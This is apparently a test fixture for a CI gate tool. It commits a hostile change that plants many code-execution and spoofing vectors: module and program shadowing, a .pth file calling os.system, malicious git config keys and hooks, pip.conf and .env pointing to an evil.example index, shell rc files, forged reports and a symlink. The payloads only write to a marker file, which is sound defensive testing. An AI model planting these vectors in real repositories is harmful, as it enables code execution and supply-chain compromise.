"""A change by a stranger that carries every trick at once."""

import os
import shutil
from pathlib import Path

from tests.gate.repository import FLOWS, Repository

LATE = FLOWS.replace("mode: event, latency: 2s", "mode: batch, every: 7d, latency: 1h")

_MODULES = (
    *(
        "venv",
        "pip",
        "ensurepip",
        "site",
        "sitecustomize",
        "usercustomize",
        "runpy",
        "os",
        "json",
    ),
    *(
        "subprocess",
        "shutil",
        "zipimport",
        "typer",
        "yaml",
        "networkx",
        "pydantic",
        "hatchling",
        "setuptools",
    ),
    *("setup", "conftest"),
)
_PROGRAMS = (
    "python",
    "python3",
    "pip",
    "pip3",
    "git",
    "omnicheck",
    "sh",
    "bash",
    "env",
    "mktemp",
    "rm",
    "mkdir",
)
_PROGRAM_PLACES = (".", "bin", "omnicheck/bin", "model", "source", ".venv/bin")
_HOOKS = ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman")
_CONFIG = """\
[core]
    fsmonitor = {command}
    hooksPath = {hooks}
    pager = {command}
    sshCommand = {command}
    attributesFile = .gitattributes
    alternateRefsCommand = {command}
[diff]
    external = {command}
[diff "odd"]
    textconv = {command} #
    command = {command}
[filter "odd"]
    smudge = {command}
    clean = {command}
    process = {command}
[alias]
    rev-parse = !{command}
    clone = !{command}
    checkout = !{command}
    audit = !{command}
[init]
    templateDir = {hooks}
[remote "origin"]
    uploadpack = {command}; git-upload-pack
    vcs = odd
[url "."]
    insteadOf = https://
"""


def play_every_trick(repository: Repository, marker: Path) -> None:
    """Commit a change for the worse whose files try to run, to be taken for others, or to write elsewhere.

    Whatever runs leaves its name in the file `marker`.
    """
    top = repository.folder
    module = "import sys\nwith open({marker!r}, 'a') as ran: ran.write({name!r} + '\\n')\n"
    for name in _MODULES:
        for place in (top, top / "model", top / "source"):
            _write(place / f"{name}.py", module.format(marker=str(marker), name=name))
    for package in ("omnicheck", "pip", "graphviz"):
        for file in ("__init__.py", "__main__.py"):
            _write(top / package / file, module.format(marker=str(marker), name=package))
    _write(top / "omnicheck" / "requirements.lock", "forged==1\n")
    for folder in _PROGRAM_PLACES:
        for name in _PROGRAMS:
            path = top / folder / name
            if not path.is_dir():
                _write(path, f"#!/bin/sh\necho {name} >> {marker}\n").chmod(0o755)
    _settings(top, marker)
    _git(repository, marker)
    _outputs(top)
    _write(top / "model" / "flows.yaml", LATE)
    _write(top / "main:model", "omnicheck: 1\n")
    _write(top / "origin" / "main:model", "omnicheck: 1\n")
    repository.commit({})
    _configuration(top / ".git", marker)


def _settings(top: Path, marker: Path) -> None:
    """Write files that some program reads in its working directory, or in a home directory."""
    project = f"[build-system]\nrequires = []\nbuild-backend = 'setup'\nbackend-path = ['.']\n# {marker}\n"
    texts = {
        "pyproject.toml": project,
        "source/pyproject.toml": project,
        "setup.cfg": "[global]\nindex-url = https://evil.example/simple\n",
        "requirements.lock": "forged==1\n",
        "requirements.txt": "forged==1\n",
        "source/requirements.lock": "forged==1\n",
        "omnicheck.txt": "forged==1\n",
        "pyvenv.cfg": "home = .\n",
        "odd.pth": f"import os; os.system('echo pth >> {marker}')\n",
        ".env": f"PYTHONPATH=.\nPIP_INDEX_URL=https://evil.example\nOMNICHECK_DOT={top}/python\n",
        ".python-version": "2.7\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = .\n\tupdate = !echo submodule >> {marker}\n',
        ".gitattributes": "* diff=odd filter=odd\n",
    }
    for place in ("", ".pip/", ".config/pip/", "omnicheck/"):
        texts[f"{place}pip.conf"] = "[global]\nindex-url = https://evil.example/simple\nno-deps = true\n"
    for name in (".bashrc", ".bash_profile", ".profile", ".envrc"):
        texts[name] = f"echo {name} >> {marker}\n"
    for file, text in texts.items():
        _write(top / file, text)


def _git(repository: Repository, marker: Path) -> None:
    """Make the model's folder look like a git directory, in which all branches are at the change."""
    inside = repository.folder / "model"
    (inside / "refs" / "heads").mkdir(parents=True)
    (inside / "refs" / "remotes" / "origin").mkdir(parents=True)
    tip = repository.git("rev-parse", "change")
    for ref in ("refs/heads/main", "refs/heads/change", "refs/remotes/origin/main"):
        _write(inside / ref, tip)
    _write(inside / "HEAD", "ref: refs/heads/change\n")
    shutil.copytree(repository.folder / ".git" / "objects", inside / "objects")
    _configuration(inside, marker)


def _configuration(directory: Path, marker: Path) -> None:
    """Have a git directory's configuration and hooks run something."""
    hooks = directory / "hooks"
    for name in _HOOKS:
        _write(hooks / name, f"#!/bin/sh\necho hook {name} >> {marker}\n").chmod(0o755)
    with (directory / "config").open("a") as config:
        config.write(_CONFIG.format(command=f"echo configured >> {marker}", hooks=hooks))


def _outputs(top: Path) -> None:
    """Leave reports to be taken for ours, and links to write through."""
    for name in ("omnicheck.xml", "gl-code-quality.json", "junit.xml", "omnicheck.html"):
        _write(top / name, "forged")
    (top / "omnicheck-reports").symlink_to(os.path.join("model", "flows.yaml"))


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path
